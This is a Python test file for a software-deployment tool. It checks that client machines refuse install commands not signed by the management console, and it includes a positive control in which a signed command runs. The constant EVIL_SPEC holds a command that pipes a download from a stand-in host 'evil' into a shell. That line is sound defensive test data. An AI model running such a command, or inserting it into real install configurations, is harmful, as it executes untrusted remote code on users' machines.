"""Issue 11: a client runs only install commands that the console signed.

A LAN attacker (or a P2P server that lies) relays an assignment document with an
install specification that the console did not sign, or the console's document with
the specification changed: no client creates an install record or runs anything. The
genuine document (the positive control) makes every client run the signed command,
and its result reaches the P2P server (INSTALL_REPORT).
"""

from __future__ import annotations

import json
from pathlib import Path

from shoal.assignments import encode_envelope
from shoal.client.install import CommandFinished, InstallState, Purpose
from shoal.core.signing import SigningKey
from shoal.wire.control import InstallStatus
from shoal_dev.sim.enterprise import Enterprise, SimOffice, build_enterprise, sim_document

MIB = 1024 * 1024
SIGNED_SPEC = {"command": "installer --quiet {file}", "extension": ".pkg"}
EVIL_SPEC = {"command": "sh -c 'curl evil | sh' {file}", "extension": ".pkg"}


def entry(content_hex: str, install: dict[str, object] | None) -> dict[str, object]:
    row: dict[str, object] = {
        "id": 1,
        "content_id": content_hex,
        "target_kind": "everyone",
        "target": None,
        "offices": None,
        "background": False,
    }
    if install is not None:
        row["install"] = install
    return row


def site(tmp_path: Path) -> Enterprise:
    enterprise = build_enterprise(
        tmp_path, [SimOffice("Branch", "10.1.0.0/24", 2)], package_size=MIB, checkin_seconds=5
    )
    enterprise.run(until=30, stop=enterprise.all_complete)
    assert enterprise.all_complete()
    return enterprise


def relay(enterprise: Enterprise, blob: bytes, seconds: float = 20) -> None:
    enterprise.server.core.set_assignments(blob)
    enterprise.network.pump(enterprise.network.hosts["10.0.0.2"])
    enterprise.run(until=enterprise.network.now + seconds)


def nothing_run(enterprise: Enterprise) -> None:
    for client in enterprise.clients:
        installs = client.agent.installs
        assert installs.records == {}, "a record from a document the console did not sign"
        assert installs.take_commands() == []
        assert client.agent.counters.documents_refused >= 1


def test_a_document_signed_by_another_key_runs_nothing(tmp_path: Path) -> None:
    enterprise = site(tmp_path)
    attacker = SigningKey.generate()
    forged = sim_document(
        attacker, [entry(enterprise.content_id.hex, EVIL_SPEC)], 99, enterprise.network.now
    )
    relay(enterprise, forged)
    nothing_run(enterprise)


def test_the_consoles_document_with_a_changed_spec_runs_nothing(tmp_path: Path) -> None:
    enterprise = site(tmp_path)
    genuine = json.loads(
        enterprise.signed_assignments([entry(enterprise.content_id.hex, SIGNED_SPEC)])
    )
    document = json.loads(genuine["document"])
    document["assignments"][0]["install"] = EVIL_SPEC  # the signature stays the console's
    genuine["document"] = json.dumps(document, sort_keys=True, separators=(",", ":"))
    relay(enterprise, encode_envelope(genuine))
    nothing_run(enterprise)
    assert all(
        "not signed by the console" in client.agent.document_note for client in enterprise.clients
    )


def test_the_signed_spec_runs_and_its_result_reaches_the_server(tmp_path: Path) -> None:
    """The positive control: the same path with the console's signature runs exactly the
    signed command, once, and the server hears how it went."""
    enterprise = site(tmp_path)
    relay(
        enterprise, enterprise.signed_assignments([entry(enterprise.content_id.hex, SIGNED_SPEC)])
    )
    for client in enterprise.clients:
        installs = client.agent.installs
        (command,) = installs.take_commands()
        assert command.purpose is Purpose.INSTALL
        assert command.argv[:2] == ("installer", "--quiet")
        assert command.argv[2].endswith(f"{enterprise.content_id.hex}.pkg")
        installs.command_finished(CommandFinished(command, 0, "ok\n"), enterprise.network.now)
        assert installs.records[enterprise.content_id].state is InstallState.INSTALLED
        client.agent.poll(enterprise.network.now)  # the shell polls after each answer
        enterprise.network.pump(client.host)
    enterprise.run(until=enterprise.network.now + 10)
    for client in enterprise.clients:
        record = enterprise.server.core.clients[client.agent.config.device_id]
        report = record.installs[enterprise.content_id]
        assert (report.status, report.exit_code, report.attempts) == (InstallStatus.INSTALLED, 0, 1)
        assert client.agent.installs.records[enterprise.content_id].reported
